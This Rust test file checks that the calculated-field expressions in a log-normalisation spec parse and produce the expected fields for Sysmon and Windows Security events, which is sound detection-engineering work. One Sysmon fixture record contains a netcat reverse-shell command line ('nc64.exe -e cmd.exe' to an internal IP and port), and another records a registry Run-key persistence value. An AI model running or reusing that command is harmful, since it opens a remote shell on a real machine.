//! The add-ons' calculated fields (`EVAL-x = …`) as `../shared/spec/ADDON_FIELDS.md` quotes
//! them: every one parses, and the Sysmon and Security stanzas give the spec's conformance
//! vectors. Needs the shared reference material (run with `--ignored`).

mod eval_support;

use std::collections::HashMap;

use cimhunt_spl::eval::EvalExpr;
use eval_support::{Rec, ctx, shared_dir};

/// An `EVAL-` setting quoted in a spec: where it is, its field, its expression.
#[derive(Debug)]
struct EvalLine {
    section: String,
    line: usize,
    field: String,
    expr: String,
}

/// Every `EVAL-x = …` of `text`: setting lines (with props.conf's `\` line continuations
/// joined) and settings quoted inline between back-ticks.
fn eval_lines(text: &str) -> Vec<EvalLine> {
    let mut out = Vec::new();
    let mut section = String::new();
    let lines: Vec<&str> = text.lines().collect();
    let mut i = 0;
    while i < lines.len() {
        let line = lines[i];
        if line.starts_with('#') && line.contains(' ') && !line.starts_with("#  ") {
            section = line.trim_start_matches('#').trim().to_owned();
        }
        let trimmed = line.trim_start();
        if let Some(setting) = trimmed.strip_prefix("EVAL-") {
            let start = i;
            let mut joined = setting.trim_end().to_owned();
            while joined.ends_with('\\') && i + 1 < lines.len() {
                joined.pop();
                i += 1;
                joined.push(' ');
                joined.push_str(lines[i].trim());
            }
            if let Some((field, expr)) = joined.split_once('=') {
                out.push(EvalLine {
                    section: section.clone(),
                    line: start + 1,
                    field: field.trim().to_owned(),
                    expr: expr.trim().to_owned(),
                });
            }
        } else {
            // Inline quotes: `EVAL-x = …`.
            let mut rest = line;
            while let Some(at) = rest.find("`EVAL-") {
                let after = &rest[at + 6..];
                let Some(end) = after.find('`') else { break };
                if let Some((field, expr)) = after[..end].split_once('=') {
                    out.push(EvalLine {
                        section: section.clone(),
                        line: i + 1,
                        field: field.trim().to_owned(),
                        expr: expr.trim().to_owned(),
                    });
                }
                rest = &after[end + 1..];
            }
        }
        i += 1;
    }
    out
}

fn read_spec(name: &str) -> String {
    let path = shared_dir().join("spec").join(name);
    std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

#[test]
#[ignore = "needs ../shared"]
fn every_eval_setting_quoted_in_addon_fields_parses() {
    let mut total = 0;
    let mut abridged = Vec::new();
    let mut failures = Vec::new();
    for spec in ["ADDON_FIELDS.md"] {
        let lines = eval_lines(&read_spec(spec));
        assert!(!lines.is_empty(), "{spec} quotes no EVAL- settings");
        for l in lines {
            // Settings the spec shortened with an ellipsis are not whole expressions.
            if l.expr.contains('…') {
                abridged.push(format!("{spec}:{} EVAL-{}", l.line, l.field));
                continue;
            }
            total += 1;
            if let Err(e) = EvalExpr::parse(&l.expr) {
                failures.push(format!("{spec}:{} EVAL-{}: {e}", l.line, l.field));
            }
        }
    }
    println!(
        "{} of {total} EVAL settings parse; {} abridged in the spec: {abridged:?}",
        total - failures.len(),
        abridged.len()
    );
    assert!(total > 80, "only {total} EVAL settings found");
    assert!(failures.is_empty(), "{failures:#?}");
}

/// The EVAL settings of a section of ADDON_FIELDS.md, by field.
fn stanza(section_prefix: &str) -> HashMap<String, EvalExpr> {
    eval_lines(&read_spec("ADDON_FIELDS.md"))
        .into_iter()
        .filter(|l| l.section.starts_with(section_prefix) && !l.expr.contains('…'))
        .map(|l| {
            let e = EvalExpr::parse(&l.expr).unwrap_or_else(|e| panic!("{}: {e}", l.field));
            (l.field, e)
        })
        .collect()
}

/// The calculated fields of `rec` under `evals` (run "in parallel", each reading the fields
/// before any EVAL), as text; null results are absent.
fn calculated(evals: &HashMap<String, EvalExpr>, rec: &Rec) -> HashMap<String, String> {
    let ctx = ctx();
    evals
        .iter()
        .filter_map(|(f, e)| {
            let v = e.eval(rec, &ctx);
            (!v.is_null()).then(|| (f.clone(), v.to_string()))
        })
        .collect()
}

fn get<'a>(fields: &'a HashMap<String, String>, name: &str) -> Option<&'a str> {
    fields.get(name).map(String::as_str)
}

#[test]
#[ignore = "needs ../shared"]
fn sysmon_process_fields_and_user() {
    let sysmon = stanza("1.4");
    assert!(sysmon.contains_key("process_name"), "{:?}", sysmon.keys());
    // TV-U1 and §1.9.
    let ev = Rec::new(&[
        ("EventCode", "1"),
        ("Image", r"C:\Tools\nc64.exe"),
        ("CommandLine", r"nc64.exe -e cmd.exe 10.0.0.1 4444"),
        ("ParentImage", r"C:\Windows\System32\cmd.exe"),
        ("User", r"NT AUTHORITY\SYSTEM"),
        ("OriginalFileName", "-"),
        ("Computer", "win-host"),
    ]);
    let f = calculated(&sysmon, &ev);
    assert_eq!(get(&f, "process_name"), Some("nc64.exe"));
    assert_eq!(get(&f, "process_exec"), Some("nc64.exe"));
    assert_eq!(get(&f, "process_path"), Some(r"C:\Tools\nc64.exe"));
    assert_eq!(get(&f, "parent_process_name"), Some("cmd.exe"));
    assert_eq!(get(&f, "user"), Some("SYSTEM"));
    assert_eq!(get(&f, "dest"), Some("win-host"));
    assert_eq!(get(&f, "action"), Some("allowed"));
    assert_eq!(get(&f, "vendor_product"), Some("Microsoft Sysmon"));
    // `OriginalFileName != "-"`: no original_file_name.
    assert_eq!(get(&f, "original_file_name"), None);

    let odd = Rec::new(&[("EventCode", "1"), ("Image", r"C:\Tools\evil-bin")]);
    let f = calculated(&sysmon, &odd);
    assert_eq!(get(&f, "process_name"), Some(r"C:\Tools\evil-bin"));
    let spaced = Rec::new(&[("EventCode", "1"), ("Image", r"C:\x\a b.exe")]);
    assert_eq!(
        get(&calculated(&sysmon, &spaced), "process_name"),
        Some("a b.exe")
    );
}

#[test]
#[ignore = "needs ../shared"]
fn sysmon_registry_vectors() {
    let sysmon = stanza("1.4");
    // TV-R2: the last component is not all word characters.
    let target = r"HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Run\evil-app";
    let r2 = Rec::new(&[
        ("EventCode", "13"),
        ("EventType", "SetValue"),
        ("TargetObject", target),
        ("Details", r"C:\x\e.exe"),
    ]);
    let f = calculated(&sysmon, &r2);
    assert_eq!(get(&f, "registry_value_name"), Some(target));
    assert_eq!(get(&f, "registry_key_name"), Some(target));
    assert_eq!(get(&f, "registry_value_data"), Some(r"C:\x\e.exe"));
    assert_eq!(get(&f, "registry_hive"), Some("HKEY_CURRENT_USER"));
    // `"REG_" + RegistryValueType` with no type: null, the data model fills `unknown`.
    assert_eq!(get(&f, "registry_value_type"), None);

    // TV-R3.
    let r3 = Rec::new(&[
        ("EventCode", "13"),
        ("EventType", "SetValue"),
        (
            "TargetObject",
            r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System\EnableLUA",
        ),
        ("Details", "DWORD (0x00000001)"),
        ("RegistryValueData", "0x00000001"),
        ("RegistryValueType", "DWORD"),
    ]);
    let f = calculated(&sysmon, &r3);
    assert_eq!(get(&f, "registry_value_name"), Some("EnableLUA"));
    assert_eq!(
        get(&f, "registry_key_name"),
        Some(r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System")
    );
    assert_eq!(get(&f, "registry_value_data"), Some("0x00000001"));
    assert_eq!(get(&f, "registry_value_type"), Some("REG_DWORD"));
    assert_eq!(
        get(&f, "registry_hive"),
        Some(r"HKEY_LOCAL_MACHINE\\Software")
    );
    assert_eq!(get(&f, "object_category"), Some("registry"));
    assert_eq!(get(&f, "action"), Some("modified"));

    // `(Default)` value names, and `HKLM\System\` keys: the 20-character hive with two
    // backslashes (§1.9).
    let default = Rec::new(&[
        ("EventCode", "13"),
        (
            "TargetObject",
            r"HKLM\System\CurrentControlSet\Services\x\(Default)",
        ),
    ]);
    let f = calculated(&sysmon, &default);
    assert_eq!(get(&f, "registry_value_name"), Some("(Default)"));
    let hive = get(&f, "registry_hive").unwrap_or_default();
    assert_eq!(hive, r"HKEY_LOCAL_MACHINE\\System");
    assert_eq!(hive.len(), 26);
}

#[test]
#[ignore = "needs ../shared"]
fn sysmon_file_and_network_vectors() {
    let sysmon = stanza("1.4");
    // TV-F1.
    let f1 = Rec::new(&[
        ("EventCode", "11"),
        (
            "TargetFilename",
            r"C:\Users\a\Downloads\x.exe:Zone.Identifier",
        ),
        ("UtcTime", "2020-10-08 11:03:46.615"),
        ("CreationUtcTime", "2020-10-01 09:00:00.000"),
    ]);
    let f = calculated(&sysmon, &f1);
    assert_eq!(get(&f, "file_path"), Some(r"C:\Users\a\Downloads\x.exe"));
    assert_eq!(get(&f, "file_name"), Some("x.exe"));
    assert_eq!(get(&f, "action"), Some("modified"));
    // TV-N1 and TV-N2.
    let n = Rec::new(&[
        ("EventCode", "3"),
        ("DestinationHostname", "-"),
        ("DestinationIp", "10.0.0.7"),
        ("Initiated", "false"),
        ("transport", "tcp"),
        ("dest_port", "443"),
        ("DestinationIsIpv6", "false"),
        ("Image", r"C:\Windows\System32\svchost.exe"),
    ]);
    let f = calculated(&sysmon, &n);
    assert_eq!(get(&f, "dest"), Some("10.0.0.7"));
    assert_eq!(get(&f, "direction"), Some("inbound"));
    assert_eq!(get(&f, "transport_dest_port"), Some("tcp/443"));
    assert_eq!(get(&f, "protocol_version"), Some("ipv4"));
    assert_eq!(get(&f, "app"), Some(r"C:\Windows\System32\svchost.exe"));
    assert_eq!(get(&f, "dest_host"), None);
    // EventCode 4: the quoted Guid and ProcessID are unquoted.
    let e4 = Rec::new(&[
        ("EventCode", "4"),
        ("Guid", "'{5770385F-C22A-43E0-BF4C-06F5698FFBD9}'"),
        ("ProcessID", "'2888'"),
        ("State", "Started"),
    ]);
    let f = calculated(&sysmon, &e4);
    assert_eq!(
        get(&f, "process_guid"),
        Some("{5770385F-C22A-43E0-BF4C-06F5698FFBD9}")
    );
    assert_eq!(get(&f, "process_id"), Some("2888"));
    assert_eq!(get(&f, "status"), Some("started"));
    assert_eq!(get(&f, "service"), Some("Sysmon"));
}

#[test]
#[ignore = "needs ../shared"]
fn security_member_sid_takes_the_name_after_the_last_backslash() {
    let security = stanza("1.6");
    let user = &security["user"];
    let ctx = ctx();
    let group_change = Rec::new(&[("EventCode", "4732"), ("MemberSid", r"CORP\alice")]);
    assert_eq!(user.eval(&group_change, &ctx).to_string(), "alice");
    let sid_only = Rec::new(&[
        ("EventCode", "4732"),
        ("MemberSid", "S-1-5-21-1"),
        ("member_user_name", "bob"),
    ]);
    assert_eq!(user.eval(&sid_only, &ctx).to_string(), "bob");
    let logon = Rec::new(&[("EventCode", "4688"), ("user", "-"), ("src_user", "carol")]);
    assert_eq!(user.eval(&logon, &ctx).to_string(), "carol");
    let name = &security["process_name"];
    let exit = Rec::new(&[
        ("EventCode", "4689"),
        ("ProcessName", r"C:\Windows\System32\notepad.exe"),
    ]);
    assert_eq!(name.eval(&exit, &ctx).to_string(), "notepad.exe");
}
